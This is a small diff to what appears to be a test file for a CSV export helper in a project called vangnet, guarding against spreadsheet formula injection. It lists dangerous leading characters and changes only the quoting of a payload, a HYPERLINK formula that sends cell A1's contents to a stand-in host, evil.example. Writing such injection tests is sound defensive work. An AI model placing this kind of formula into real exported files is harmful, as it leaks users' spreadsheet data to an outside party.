@@ -15,7 +15,7 @@ from tests.network.factories import ServiceFactory, propose
 from vangnet.core import csv_export
 
 DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
-PAYLOAD = "HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
+PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"klik")'
 
 
 # --- the helper ------------------------------------------------------------------------
